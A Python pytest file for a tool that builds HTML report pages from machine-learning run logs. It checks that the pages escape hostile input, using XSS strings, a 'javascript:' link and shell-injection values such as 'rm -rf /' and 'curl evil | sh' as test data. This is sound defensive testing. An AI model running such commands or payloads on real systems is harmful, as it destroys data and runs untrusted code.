"""The page of one run and the page of problems: what they show, in which order, and that no log can do harm there."""

from __future__ import annotations

import json
import math
import re
import struct
from collections.abc import Mapping, Sequence
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest

from reportgen.formats import short_key
from reportgen.model import Artifact, Code, Input, ModelVersion, Problem, Relative, Run, Session, Summary, Text
from reportgen.site import urls
from reportgen.site.config import Config, ExperimentConfig, MetricConfig
from reportgen.site.pages.artifacts import image_size, make_excerpt, make_previews
from reportgen.site.pages.environment import make_environment
from reportgen.site.pages.metric_charts import MAX_CHARTS, split_of
from reportgen.site.pages.problems import ProblemRow, make_problems_page, make_rows
from reportgen.site.pages.reproduce import make_reproduction
from reportgen.site.pages.run import RunPage, make_run_page
from reportgen.site.render import Renderer, SiteInfo
from reportgen.site.theme import load_theme
from tests.factories import make_code, make_run

MARKUP = "<script>alert(1)</script>\"'&amp;<img src=x onerror=alert(2)>"
LONG = "a_name_without_any_break_" * 10
RTL = "שלום עולם"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 640, 400) + b"\x08\x02\0\0\0"
VOID = frozenset("area base br col embed hr img input link meta source track wbr path circle rect line".split())


class Page(HTMLParser):
    """A page taken apart: elements with their attributes, text by element, headings; notices what must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.headings: list[tuple[int, str]] = []
        self.text = ""
        self._open: list[str] = []
        self._heading: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
            self.headings.append((int(tag[1]), ""))
            self._heading = tag
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open, f"</{tag}> closes nothing"
        assert self._open.pop() == tag
        if tag == self._heading:
            self._heading = None

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._heading:
            level, so_far = self.headings[-1]
            self.headings[-1] = (level, so_far + data)

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]

    @property
    def sections(self) -> list[str]:
        return [text for level, text in self.headings if level == 2]

    @property
    def unclosed(self) -> list[str]:
        return self._open


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer(SiteInfo("tinyvision"), load_theme("default"))


def make_page(
    run: Run,
    *,
    config: Config | None = None,
    parent: Relative | None = None,
    children: Sequence[Relative] = (),
    files: Mapping[str, str] | None = None,
) -> RunPage:
    return make_run_page(
        run, parent=parent, children=tuple(children), config=config or Config(), artifact_files=files or {}
    )


def render(renderer: Renderer, page: RunPage) -> str:
    path = urls.run_page(page.summary.key, page.summary.name)
    return renderer.render("run.html", page, path=path).decode()


def publish(tmp_path: Path, path: str, data: bytes, media: str) -> tuple[Artifact, dict[str, str]]:
    file = tmp_path / path.replace("/", "-")
    file.write_bytes(data)
    artifact = Artifact(path, len(data), "ab" * 32, media, urls.artifact("ab" * 32, path))
    return artifact, {path: str(file)}


def hostile_run() -> Run:
    """Return a run with markup, long, right-to-left and empty text wherever a log can put text."""
    metrics: dict[str, Sequence[float]] = {f"{MARKUP}{i}/x": [1.0, 2.0, float(i)] for i in range(70)}
    metrics |= {LONG: [0.1, 0.2], RTL: [1.0], "😀": [math.nan], "a b/c d": [1e300, -1e300]}
    return make_run(
        MARKUP + RTL,
        experiment=LONG,
        status="failed",
        error=MARKUP,
        user=MARKUP,
        group=LONG,
        parent_id=MARKUP,
        params={MARKUP: MARKUP, LONG: LONG, RTL: RTL, "": "", "inf": math.inf, "none": None},
        tags={MARKUP: LONG, RTL: ""},
        metrics=metrics,
        notes=[MARKUP, "# A heading\n\n" + LONG],
        code=Code(commit=MARKUP, branch=LONG, dirty=True, command=(MARKUP, LONG, "a\nb")),
        env={MARKUP: {LONG: [MARKUP, {}]}, "packages": {MARKUP: LONG}},
        artifacts=[Artifact(f"{MARKUP}/{RTL}.bin", 5, "", MARKUP, None, MARKUP)],
        inputs=[Input(MARKUP, LONG, "javascript:alert(1)", RTL)],
        models=[ModelVersion(MARKUP, LONG, (RTL,), (MARKUP,), LONG, MARKUP)],
        texts=[Text(MARKUP, MARKUP + "\n" * 200 + LONG)],
        problems=[Problem(MARKUP, LONG, MARKUP, line=3, count=9)],
        unknown_events=2,
        redacted=1,
    )


# ---- the whole page


def test_a_page_shows_its_sections_in_order_and_leaves_out_empty_ones(renderer: Renderer) -> None:
    full = make_run(
        tags={"team": "vision"},
        notes=["It *worked*."],
        inputs=[Input("cifar100", "eb9058c3", "", "train")],
        models=[ModelVersion("vit", "3", (), (), "", "")],
        artifacts=[Artifact("model.bin", 20_000_000, "cd" * 32, "application/octet-stream", None, "over 10 MB")],
        problems=[Problem("a/b/events.jsonl", "the last line is cut off", "Nothing to do.")],
    )
    page = Page(render(renderer, make_page(full)))
    expected = (
        "Results Metrics Summary Parameters Notes Tags Reproduce Artifacts|Data sets|Models Environment Problems Record"
    )
    assert page.sections == [
        s for part in expected.split("|") for s in ([part] if part == "Data sets" else part.split())
    ]
    bare = Page(render(renderer, make_page(make_run(metrics={}, params={}, code=Code(), env={}))))
    assert bare.sections == ["Record"]
    assert "neither metrics nor params" in bare.text
    assert not bare.all("svg")[4:], "only the icons of the top bar and the mark of the status are drawn"


@pytest.mark.parametrize("which", ["default", "hostile", "bare", "failed"])
def test_a_page_is_whole_html_without_style_or_script_of_its_own(renderer: Renderer, which: str) -> None:
    runs = {
        "default": make_run(),
        "hostile": hostile_run(),
        "bare": make_run(metrics={}, params={}, code=Code(), env={}),
        "failed": make_run(status="failed", metrics={"train/loss": [1.0, math.nan]}),
    }
    related = [Relative("k1", MARKUP, "r1"), Relative("k2", LONG, "r2")]
    html = render(renderer, make_page(runs[which], parent=related[0], children=related))
    page = Page(html)
    assert page.unclosed == []
    assert all(a.get("src") and set(a) <= {"src", "defer", "data-id"} for a in page.all("script"))
    for tag, attributes in page.elements:
        assert tag not in ("style", "iframe", "object", "embed", "form", "base")
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert not (attributes.get("href") or "").lower().startswith(("javascript:", "data:text"))
    assert [a for a in page.all("img") if (a.get("src") or "") == "x"] == []
    assert html.index("Content-Security-Policy") < html.index("<link")
    assert html.startswith("<!DOCTYPE html>\n<html lang=")


@pytest.mark.parametrize("run", [make_run(), hostile_run()], ids=["default", "hostile"])
def test_a_page_can_be_walked_by_headings_landmarks_and_tables(renderer: Renderer, run: Run) -> None:
    children = [Relative(f"k{i}", f"child {i}", f"r{i}") for i in range(9)]
    page = Page(render(renderer, make_page(run, children=children)))
    levels = [level for level, _ in page.headings]
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    ids = [a["id"] for _, a in page.elements if "id" in a]
    assert len(ids) == len(set(ids))
    inside = [a["href"] for a in page.all("a") if (a.get("href") or "").startswith("#")]
    assert inside
    assert {h.removeprefix("#") for h in inside if h} <= set(ids)
    named = [a["aria-labelledby"] for _, a in page.elements if "aria-labelledby" in a]
    assert {n for group in named if group for n in group.split()} <= set(ids)
    assert all(a.get("scope") in ("col", "row") for a in page.all("th"))
    labels = [a["aria-label"] for a in page.all("section") if "aria-label" in a]
    assert len(labels) == len(set(labels))
    assert all(a.get("tabindex") == "0" for a in page.all("section") if "aria-label" in a)


def test_the_same_run_gives_the_same_bytes(renderer: Renderer) -> None:
    assert render(renderer, make_page(make_run())) == render(renderer, make_page(make_run()))


def test_addresses_are_relative_and_name_a_file(renderer: Renderer) -> None:
    run = make_run(artifacts=[Artifact("a.html", 3, "ab" * 32, "text/html", "a/" + "ab" * 10 + ".html.txt")])
    page = Page(render(renderer, make_page(run, parent=Relative("k", "sweep", "r"))))
    targets = [a["href"] for a in page.all("a")] + [a["src"] for a in page.all("script")]
    outside = [t for t in targets if t and not t.startswith(("../", "#")) and "/" in t]
    assert outside == []
    assert "../a/" + "ab" * 10 + ".html.txt" in targets
    assert "as text" in page.text


# ---- facts


def test_a_commit_is_linked_only_when_it_is_a_hash_and_the_repository_is_known(renderer: Renderer) -> None:
    config = Config(repository_url="https://example.org/code")
    run = make_run(code=make_code(dirty=True))
    html = render(renderer, make_page(run, config=config))
    assert f'href="https://example.org/code/commit/{run.summary.commit}"' in html
    assert "uncommitted changes" in html
    assert make_page(run).commit_url == ""
    assert make_page(make_run(code=Code(commit="../../evil")), config=config).commit_url == ""


def test_a_failed_run_says_why(renderer: Renderer) -> None:
    run = make_run(status="failed", error="ValueError: loss is not finite")
    assert "ValueError: loss is not finite" in Page(render(renderer, make_page(run))).text
    silent = make_run(status="failed")
    assert "gave no reason" in Page(render(renderer, make_page(silent))).text


def test_a_run_whose_log_has_no_times_has_no_duration(renderer: Renderer) -> None:
    html = render(renderer, make_page(make_run(status="unfinished", start_time=0.0, duration_s=0.0)))
    assert "so far" not in html
    assert "0 s" not in Page(html).text


def test_a_slash_in_a_unit_makes_no_section_of_charts(renderer: Renderer) -> None:
    page = make_page(make_run(metrics={"train_speed(iter/s)": [1.0, 2.0], "gpu/load(1/s)": [1.0, 2.0]}))
    assert [section.name for section in page.sections] == ["", "gpu"]


def test_an_unfinished_run_says_when_its_last_line_was_written(renderer: Renderer) -> None:
    html = render(renderer, make_page(make_run(status="unfinished", duration_s=600)))
    assert "Last line" in html
    assert "so far" in html
    assert 'data-last="2026-11-21T12:12:00Z"' in html
    assert "Running" not in html


def test_a_parent_is_linked_or_named_when_it_is_not_in_the_site(renderer: Renderer) -> None:
    run = make_run(parent_id="20261121-sweep")
    assert "not in this site" in render(renderer, make_page(run))
    linked = make_page(run, parent=Relative("k", "sweep", "20261121-sweep"))
    assert linked.parent is not None
    assert linked.parent.page == urls.run_page("k", "sweep")
    assert linked.parent_id == ""


def test_few_children_stand_among_the_facts_and_many_in_a_section(renderer: Renderer) -> None:
    children = [Relative(f"k{i}", f"child-{i}", f"r{i}") for i in range(30)]
    few = Page(render(renderer, make_page(make_run(), children=children[:2])))
    many = Page(render(renderer, make_page(make_run(), children=children)))
    assert "Child runs30" not in few.text
    assert "Child runs" in many.sections
    assert "child-29" in many.text


def test_sessions_are_listed_when_there_is_more_than_one() -> None:
    run = make_run()
    assert make_page(run).sessions == ()
    first, later = (Session(f"s{i}", 0, 1e9 + i, 1e9 + i + 5, s) for i, s in enumerate(["interrupted", "finished"]))
    twice = Run(**{name: getattr(run, name) for name in run.__slots__} | {"sessions": (first, later)})
    assert make_page(twice).sessions == (first, later)


# ---- numbers


def test_headlines_are_metrics_with_a_direction_validation_first() -> None:
    page = make_page(make_run())
    assert [h.title for h in page.headlines] == ["val/acc", "val/loss", "val/ece", "throughput"]
    (falling,) = make_page(make_run(metrics={"val/acc": [70.0, 78.43, 78.1]})).headlines
    assert (falling.value.text, falling.said) == ("78.43", "best, at step 1; last 78.10")
    (single,) = make_page(make_run(metrics={"val/acc": ([200], [78.43])})).headlines
    assert single.said == "only value, at step 200"


def test_declared_headlines_units_and_titles_win() -> None:
    config = Config(
        metrics={"grad_norm": MetricConfig(title="Gradient norm", unit="1", summary="last")},
        experiments={"cifar100-vit-small": ExperimentConfig(headline=("grad_norm", "no such metric"))},
    )
    (only,) = make_page(make_run(), config=config).headlines
    assert (only.title, only.unit, only.said) == ("Gradient norm", "1", "last, at step 199")


def test_a_summary_row_shows_rounded_numbers_with_all_digits_on_hover(renderer: Renderer) -> None:
    page = make_page(make_run(metrics={"val/acc": [7.15731, 78.43219, 78.1]}))
    (row,) = page.rows
    assert (row.first.text, row.max.text, row.last.text) == ("7.16", "78.43", "78.10")
    assert row.max.full == "78.43219"
    assert row.best == row.max
    assert row.best_step == 1
    assert 'title="78.43219"' in render(renderer, page)


def test_a_metric_without_direction_has_no_best() -> None:
    (row,) = make_page(make_run(metrics={"lr": [1e-3, 0.0]})).rows
    assert row.best is None
    assert row.best_step is None


@pytest.mark.parametrize(
    ("values", "sentence"),
    [
        ([1.0, 0.5, math.nan, math.nan], "train/loss is NaN from step 2"),
        ([1.0, math.inf], "train/loss is Inf from step 1"),
        ([math.nan, math.nan], "train/loss is NaN at every step"),
        ([1.0, math.nan, 0.5], "train/loss has 1 value that is NaN or infinite"),
        ([math.nan, -math.inf, 0.5], "train/loss has 2 values that are NaN or infinite"),
    ],
)
def test_values_that_are_not_finite_are_said_in_words(values: list[float], sentence: str) -> None:
    assert make_page(make_run(metrics={"train/loss": values, "val/acc": [1.0]})).not_finite == (sentence,)


def test_many_metrics_that_are_not_finite_are_counted() -> None:
    said = make_page(make_run(metrics={f"m{i}": [math.nan] for i in range(9)})).not_finite
    assert len(said) == 6
    assert said[-1] == "4 more metrics have values that are NaN or infinite"


# ---- charts


@pytest.mark.parametrize(
    ("metric", "expected"),
    [
        ("val/acc", ("acc", "val")),
        ("train_loss", ("loss", "train")),
        ("loss/validation", ("loss", "val")),
        ("eval.accuracy", ("accuracy", "eval")),
        ("ppo/train/loss", ("ppo/loss", "train")),
        ("Train/Loss", ("Loss", "train")),
        ("my_train_steps", ("my_train_steps", "")),
        ("train", ("train", "")),
        ("train/", ("train/", "")),
        ("lr", ("lr", "")),
        ("", ("", "")),
    ],
)
def test_the_split_is_read_from_the_name(metric: str, expected: tuple[str, str]) -> None:
    assert split_of(metric) == expected


def test_splits_of_a_metric_share_a_chart_and_the_machine_comes_last_and_folded() -> None:
    metrics = {name: [1.0, 2.0] for name in ["system/gpu", "loss", "val_loss", "lr", "ppo/kl", "train/acc", "val/acc"]}
    page = make_page(make_run(metrics=metrics))
    assert [(s.name, s.folded) for s in page.sections] == [("", False), ("ppo", False), ("system", True)]
    first = page.sections[0]
    assert [(c.title, c.said) for c in first.main] == [("loss", "loss dashed"), ("acc", "train dashed")]
    assert [c.title for c in first.minor] == ["lr"]
    assert [row.metric for row in page.rows][-1] == "system/gpu"


def test_charts_beyond_the_limit_are_counted_and_stay_in_the_table(renderer: Renderer) -> None:
    page = make_page(make_run(metrics={f"m{i}": [1.0, 2.0] for i in range(MAX_CHARTS + 1)}))
    assert sum(len(s.main) + len(s.minor) for s in page.sections) == MAX_CHARTS
    assert [chart.title for chart in page.curves.more] == [f"m{MAX_CHARTS}"]
    assert len(page.rows) == MAX_CHARTS + 1
    assert "1 more chart is not drawn" in render(renderer, page)


def test_scripts_are_told_what_each_chart_shows(renderer: Renderer) -> None:
    names = [MARKUP, "a'b\"c", RTL, "train/loss", "val/loss"]
    run = make_run(metrics={name: [1.0, 2.0] for name in names})
    html = render(renderer, make_page(run))
    told = [json.loads(unescape(text)) for text in re.findall('<figure data-curves="([^"]*)"', html)]
    assert sorted(line["metric"] for chart in told for line in chart["lines"]) == sorted(names)
    (loss,) = (chart for chart in told if chart["title"] == "loss")
    assert loss["lines"] == [
        {"metric": "val/loss", "label": "val", "dashed": False},
        {"metric": "train/loss", "label": "train", "dashed": True},
    ]
    assert (loss["said"], loss["smooth"], loss["direction"]) == ("train dashed", 0.0, "min")
    (section,) = re.findall('<section[^>]* data-curves="([^"]*)"', html)
    wanted = {"runs": [short_key(run.summary.key)], "table": "", "grouped": False, "more": []}
    assert json.loads(unescape(section)) == wanted


def test_ranks_are_drawn_together() -> None:
    page = make_page(make_run(ranks=2))
    assert (page.charts_said, page.numbers_said) == ("with the range of 2 ranks", "of rank 0")


HISTOGRAM = {f"net/w/q{percent:02}": [percent / 10, percent / 5] for percent in (5, 25, 50, 75, 95)}


def test_a_histogram_is_one_chart_and_one_row(renderer: Renderer) -> None:
    page = make_page(make_run(metrics={**HISTOGRAM, "net/loss": [2.0, 1.0]}))
    (section,) = page.sections
    assert [(c.title, c.said) for c in section.main] == [
        ("net/loss", ""),
        ("net/w", "median, 5–\u206095\u00a0% and 25–\u206075\u00a0%"),
    ]
    assert [row.metric for row in page.rows] == ["net/w/q50", "net/loss"]
    chart = section.main[1]
    assert chart.svg.count('class="band"') == 2
    assert "net/w/q50: 5 to 10" in chart.svg
    assert "5–95 % at the end: 1 to 19; 25–75 % at the end: 5 to 15" in chart.svg
    assert chart.curves.values()["lines"] == [
        {
            "metric": "net/w/q50",
            "label": "",
            "dashed": False,
            "quantiles": [
                ("95 %", "net/w/q95"),
                ("75 %", "net/w/q75"),
                ("median", "net/w/q50"),
                ("25 %", "net/w/q25"),
                ("5 %", "net/w/q05"),
            ],
        }
    ]
    assert "net/w/q05" not in re.sub('data-curves="[^"]*"', "", render(renderer, page))


def test_a_histogram_takes_title_and_unit_from_its_median() -> None:
    config = Config(metrics={"net/w/q50": MetricConfig(title="Weights", unit="mm")})
    (section,) = make_page(make_run(metrics=HISTOGRAM), config=config).sections
    assert (section.main[0].title, section.main[0].curves.unit) == ("Weights", "mm")


def test_histograms_never_push_a_metric_out_of_its_place() -> None:
    histograms = {name.replace("net", f"net/{i}"): v for i in range(3) for name, v in HISTOGRAM.items()}
    (section,) = make_page(make_run(metrics={**histograms, "net/loss": [2.0, 1.0]})).sections
    assert [c.title for c in section.main] == ["net/loss"]
    assert [c.title for c in section.minor] == ["net/0/w", "net/1/w", "net/2/w"]


def test_a_noisy_median_is_not_smoothed_and_steps_without_a_quantile_have_no_band() -> None:
    noise = [(-1.0) ** i for i in range(400)]
    metrics = {"w/q05": [v - 1 for v in noise[:200]], "w/q50": noise, "w/q95": [v + 1 for v in noise]}
    (section,) = make_page(make_run(metrics=metrics)).sections
    (chart,) = section.main
    assert chart.curves.smooth == 0
    band, line = (re.findall(f'class="{kind}" d="([^"]*)"', chart.svg) for kind in ("band", "line"))
    numbers = [len(re.findall(r"-?\d+", path)) for path in (*band, *line)]
    assert numbers == [2 * 2 * 200, 2 * 400]  # there and back over half of the steps, once over all


def test_quantiles_of_several_ranks_are_those_of_rank_0() -> None:
    page = make_page(make_run(metrics=HISTOGRAM, ranks=2))
    ((chart,),) = (section.main for section in page.sections)
    assert "5–95 % at the end: 1 to 19" in chart.svg
    assert chart.svg.count('class="band"') == 2


# ---- artifacts


def test_a_picture_is_shown_with_its_size(tmp_path: Path, renderer: Renderer) -> None:
    artifact, files = publish(tmp_path, "plots/a b.png", PNG, "image/png")
    html = render(renderer, make_page(make_run(artifacts=[artifact]), files=files))
    assert 'alt="plots/a b.png" width="640" height="400"' in html
    assert "640 × 400" in html


@pytest.mark.parametrize(
    ("data", "size"),
    [
        (PNG, (640, 400)),
        (b"GIF89a" + struct.pack("<HH", 3, 4), (3, 4)),
        (b"BM" + b"\0" * 16 + struct.pack("<ii", 5, -6), (5, 6)),
        (b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x11\x08" + struct.pack(">HH", 7, 8), (8, 7)),
        (b"RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0" + b"\0" * 4 + b"\x09\0\0\x13\0\0", (10, 20)),
        (b"RIFF\0\0\0\0WEBPVP8L\0\0\0\0\x2f" + ((4) | (5 << 14)).to_bytes(4, "little") + b"\0" * 5, (5, 6)),
        (b"RIFF\0\0\0\0WEBPVP8 \0\0\0\0\0\0\0\x9d\x01\x2a" + struct.pack("<HH", 9, 11), (9, 11)),
        (PNG[:20], None),
        (b"\xff\xd8\xff\xff\xff", None),
        (b"<html>", None),
        (b"", None),
    ],
)
def test_the_size_of_a_picture_is_read_from_its_head(data: bytes, size: tuple[int, int] | None) -> None:
    assert image_size(data) == size


def test_a_high_picture_keeps_its_proportions(tmp_path: Path) -> None:
    artifact, files = publish(tmp_path, "tall.gif", b"GIF89a" + struct.pack("<HH", 300, 1120), "image/gif")
    (preview,) = make_previews([artifact], files).pictures
    assert preview.picture is not None
    assert preview.picture.fit == (150, 560)


def test_an_svg_becomes_the_data_of_an_image_up_to_a_limit(tmp_path: Path, renderer: Renderer) -> None:
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    artifact, files = publish(tmp_path, "a.svg", drawing, "image/svg+xml")
    html = render(renderer, make_page(make_run(artifacts=[artifact]), files=files))
    assert 'src="data:image/svg+xml;base64,' in html
    assert "onload" not in html
    large, files = publish(tmp_path, "b.svg", drawing + b" " * 200_000, "image/svg+xml")
    assert make_previews([large], files).listed == (large,)


def test_a_page_of_html_is_never_looked_into(tmp_path: Path, renderer: Renderer) -> None:
    artifact, files = publish(tmp_path, "report.html", b"<p>hello</p><script>alert(1)</script>", "text/plain")
    html = render(renderer, make_page(make_run(artifacts=[artifact]), files=files))
    assert "hello" not in html
    assert ".html.txt" in html


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("t.csv", "name,p\notter,0.61\n<b>,0.5\n"),
        ("t.tsv", "name\tp\notter\t0.61\n<b>\t0.5\n"),
        ("split.json", json.dumps({"columns": ["name", "p"], "data": [["otter", 0.61], ["<b>", 0.5]]})),
        ("rows.json", json.dumps([{"name": "otter", "p": 0.61}, {"name": "<b>", "p": 0.5}])),
        ("columns.json", json.dumps({"name": ["otter", "<b>"], "p": [0.61, 0.5]})),
    ],
)
def test_tables_are_shown_as_tables(tmp_path: Path, renderer: Renderer, name: str, text: str) -> None:
    artifact, files = publish(tmp_path, name, text.encode(), "application/octet-stream")
    (preview,) = make_previews([artifact], files).tables
    assert preview.table is not None
    assert preview.table.header == ("name", "p")
    assert preview.table.rows == (("otter", "0.61"), ("<b>", "0.5"))
    assert preview.table.numeric == (False, True)
    assert preview.table.said == ""
    assert "&lt;b&gt;" in render(renderer, make_page(make_run(artifacts=[artifact]), files=files))


def test_a_large_table_says_how_much_of_it_is_shown(tmp_path: Path) -> None:
    header = ",".join(f"c{i}" for i in range(20))
    row = ",".join("x" * 30 for _ in range(20))
    artifact, files = publish(tmp_path, "big.csv", "\n".join([header, *[row] * 500]).encode(), "text/csv")
    (preview,) = make_previews([artifact], files).tables
    assert preview.table is not None
    assert preview.table.said == "first 10 of about 500 rows, first 12 of 20 columns"
    assert all(len(r) == 12 for r in preview.table.rows)


def test_a_text_shows_its_first_and_last_lines(tmp_path: Path) -> None:
    lines = [f"epoch {i}" for i in range(20_000)]
    for name, ending in (("lf.log", "\n"), ("crlf.log", "\r\n")):
        artifact, files = publish(tmp_path, name, ending.join([*lines, ""]).encode(), "text/plain")
        (preview,) = make_previews([artifact], files).excerpts
        assert preview.excerpt is not None
        assert preview.excerpt.head == tuple(lines[:12])
        assert preview.excerpt.tail == tuple(lines[-6:])
        assert (preview.excerpt.left_out, preview.excerpt.lines) == (19_982, 20_000)


def test_an_excerpt_is_the_whole_text_when_there_is_hardly_more() -> None:
    assert make_excerpt("a\nb\n").head == ("a", "b")
    assert make_excerpt("").lines == 1
    assert make_excerpt("\n".join("abcdefghijklmnopqrs")).tail == ()
    assert len(make_excerpt("x" * 10_000).head[0]) == 400


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("deep.json", b"[" * 100_000),
        ("empty.csv", b""),
        ("zero.txt", b"a\0b"),
        ("torn.png", PNG[:18]),
        ("empty.json", b""),
        ("latin.txt", "café".encode("latin-1")),
        ("quotes.csv", b'a,"b\n' + b"x" * 70_000),
        ("ragged.csv", b"a,b\n1\n1,2,3\n"),
        ("list.json", b"[1, [2]]"),
        ("uneven.json", b'{"a": [1], "b": [1, 2]}'),
        ("columns.json", b'{"columns": [], "data": []}'),
        ("number.json", b"1" * 5000),
    ],
)
def test_broken_files_do_not_break_the_page(tmp_path: Path, renderer: Renderer, name: str, data: bytes) -> None:
    media = "image/png" if name.endswith(".png") else "text/plain"
    artifact, files = publish(tmp_path, name, data, media)
    page = Page(render(renderer, make_page(make_run(artifacts=[artifact]), files=files)))
    assert page.unclosed == []
    assert name in page.text


def test_a_file_that_is_gone_is_listed(tmp_path: Path) -> None:
    artifact, files = publish(tmp_path, "a.txt", b"x", "text/plain")
    Path(files["a.txt"]).unlink()
    assert make_previews([artifact], files).listed == (artifact,)


def test_what_is_not_published_is_named_with_size_digest_and_reason(renderer: Renderer) -> None:
    artifact = Artifact("model.safetensors", 21_600_000, "cd" * 32, "application/octet-stream", None, "over 10 MB")
    text = Page(render(renderer, make_page(make_run(artifacts=[artifact])))).text
    assert "21.6 MB" in text
    assert "cd" * 32 in text
    assert "no: over 10 MB" in text


# ---- code and surroundings


def test_commands_are_quoted_for_a_shell() -> None:
    code = Code(commit="a41f09c", dirty=True, command=("python", "train.py", "--name", "a b; rm -rf /", "$(x)"))
    assert make_reproduction(code).splitlines() == [
        "git checkout a41f09c",
        "# the working tree had changes that are not in this commit",
        "python train.py --name 'a b; rm -rf /' '$(x)'",
    ]
    assert make_reproduction(Code()) == ""


def test_a_word_cannot_break_out_of_its_line() -> None:
    code = Code(commit="x\ncurl evil | sh", command=("a\x1b]0;t\x07", "\u202eb"))
    lines = make_reproduction(code).splitlines()
    assert lines == ["git checkout 'x\ufffdcurl evil | sh'", "'a\ufffd]0;t\ufffd' '\ufffdb'"]


def test_a_long_command_is_broken_in_front_of_options() -> None:
    command = ("python", "-m", "train", *(word for i in range(12) for word in (f"--option-{i}", "value")))
    lines = make_reproduction(Code(command=command)).splitlines()
    assert len(lines) > 2
    assert all(line.endswith(" \\") for line in lines[:-1])
    assert all(line.startswith("  --option") for line in lines[1:])
    assert " ".join(line.removesuffix("\\").strip() for line in lines) == " ".join(command)


def test_surroundings_are_one_line_and_two_tables() -> None:
    env = make_environment(
        {
            "python": "3.12.7",
            "platform": "Linux",
            "hardware": {"gpu": {"name": "H200"}, "cores": 16, "none": None},
            "packages": {"numpy": "2.1.0", "Torch-x": "1", "torch": "2.9.1", "pip": 3},
        }
    )
    assert env is not None
    assert env.said == "Python 3.12.7, torch 2.9.1, numpy 2.1.0, Linux"
    assert env.facts[-2:] == (("hardware.gpu.name", "H200"), ("hardware.cores", "16"))
    assert [name for name, _ in env.packages] == ["numpy", "pip", "torch", "Torch-x"]
    assert make_environment({}) is None


def found(run: Summary, *problems: Problem) -> tuple[ProblemRow, ...]:
    """Return problems as those of a run."""
    return make_rows([replace(run, problems=problems)])


def test_surroundings_of_any_shape_can_be_shown() -> None:
    deep: dict[str, object] = {}
    for _ in range(60):
        deep = {"a": deep}
    env = make_environment({"packages": [MARKUP], "python": {"a": 1}, "deep": deep, "long": "x" * 10_000})
    assert env is not None
    assert ("packages", f"[{json.dumps(MARKUP)}]") in env.facts
    assert max(len(value) for _, value in env.facts) == 2_000


# ---- the page of problems


def test_problems_are_grouped_by_message_the_most_frequent_first(renderer: Renderer) -> None:
    run = make_run().summary
    torn = [Problem(f"a/{i}/events.jsonl", "the last line is cut off", "Nothing to do.", line=i) for i in (3, 1, 2)]
    page = make_problems_page([*found(run, *torn), ProblemRow(Problem("x.jsonl", "no start line", count=4))])
    assert page.said == "4 problems in 1 run and 1 file without a run"
    assert [(g.message, len(g.rows), g.lines) for g in page.groups] == [
        ("the last line is cut off", 3, 3),
        ("no start line", 1, 4),
    ]
    assert [row.problem.line for row in page.groups[0].rows] == [1, 2, 3]
    html = renderer.render("problems.html", page, path=urls.PROBLEMS).decode()
    assert urls.run_page(run.key, run.name) in html
    assert Page(html).unclosed == []


def test_the_page_of_problems_does_not_depend_on_their_order(renderer: Renderer) -> None:
    run = make_run().summary
    problems = [Problem(MARKUP, f"m{i % 3}", MARKUP, line=i) for i in range(9)]
    items = [row for i, p in enumerate(problems) for row in (found(run, p) if i % 2 else (ProblemRow(p),))]
    assert make_problems_page(items) == make_problems_page(items[::-1])
    html = renderer.render("problems.html", make_problems_page(items), path=urls.PROBLEMS).decode()
    assert "<script>alert" not in html


def test_without_problems_the_page_says_so(renderer: Renderer) -> None:
    html = renderer.render("problems.html", make_problems_page([]), path=urls.PROBLEMS).decode()
    assert "None. Every line of every log was read." in html


def test_a_scribble_is_smoothed_and_says_so() -> None:
    noisy = [math.sin(i * 2.4) for i in range(300)]
    page = make_page(make_run(metrics={"noisy": noisy, "calm": [i / 300 for i in range(300)]}))
    said = {chart.title: chart.said for section in page.sections for chart in (*section.main, *section.minor)}
    assert said == {"noisy": "smoothed, as logged behind", "calm": ""}
